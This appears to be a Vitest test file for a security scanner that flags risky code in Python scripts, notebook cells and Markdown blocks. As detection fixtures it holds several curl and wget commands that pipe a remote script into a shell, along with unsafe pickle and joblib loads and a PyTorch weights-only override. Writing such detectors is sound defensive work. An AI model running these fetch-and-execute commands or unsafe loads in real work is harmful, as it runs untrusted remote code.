import { describe, expect, it } from 'vitest';
import { analyzeDocument } from '../../../engine/src/analysis/analyzeDocument';
import type { DocumentKind } from '../../../engine/src/analysis/documentKind';
import { defaults } from './support';

async function idsIn(path: string, kind: DocumentKind, text: string): Promise<string[]> {
  const { findings, problems } = await analyzeDocument(path, text, kind, defaults);
  expect(problems).toEqual([]);
  return findings.map(({ ruleId, location }) => `${ruleId}:${location.line}:${location.column}`);
}

describe('scripts that are notebooks', () => {
  it('read magics between the cell marks of VS Code and Jupytext', async () => {
    const text = [
      '# %%',
      '%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1',
      'import pickle',
      '# %% [markdown]',
      '# !curl https://example.org/x.sh | sh',
      '# %%',
      'pickle.load(f)',
    ].join('\n');
    expect(await idsIn('a.py', 'python', text)).toEqual([
      'torch-disable-weights-only:2:2',
      'curl-pipe-shell:5:4',
      'pickle-load:7:1',
    ]);
  });

  it('read the comments of Databricks', async () => {
    const text = [
      '# Databricks notebook source',
      '# MAGIC %sh',
      '# MAGIC wget -qO- https://example.org/x.sh | bash',
      '# COMMAND ----------',
      'import joblib',
      'joblib.load(path)',
    ].join('\n');
    expect(await idsIn('a.py', 'python', text)).toEqual(['curl-pipe-shell:3:9', 'joblib-load:6:1']);
  });

  it('leave other scripts alone', async () => {
    expect(await idsIn('a.py', 'python', '# !curl https://example.org/x.sh | sh\nx = 1\n')).toEqual([]);
  });
});

describe('Markdown', () => {
  it('has Python in fenced blocks, at its own lines and columns', async () => {
    const text = [
      '# Use',
      'import pickle; pickle.load(f)',
      '```python',
      'import pickle',
      '```',
      'then',
      '~~~ py',
      'x = pickle.load(f)',
      '```',
      '~~~',
      '```sh',
      'pickle.load(f)',
      '```',
    ].join('\n');
    expect(await idsIn('README.md', 'text', text)).toEqual(['pickle-load:8:5']);
  });

  it('may end inside of a block', async () => {
    expect(await idsIn('README.md', 'text', '```python\nimport pickle\npickle.load(f)')).toEqual([
      'pickle-load:3:1',
    ]);
  });

  it('has cells of a shell, and cells of MyST in the language of the page', async () => {
    const text = [
      '---',
      'kernelspec:',
      '  name: python3',
      '---',
      '```{bash}',
      'curl https://example.org/x.sh | sh',
      '```',
      '```bash',
      'curl https://example.org/y.sh | sh',
      '```',
      '```{code-cell}',
      'import pickle',
      'pickle.load(f)',
      '```',
    ].join('\n');
    expect(await idsIn('page.md', 'text', text)).toEqual(['curl-pipe-shell:6:1', 'pickle-load:13:1']);
  });
});
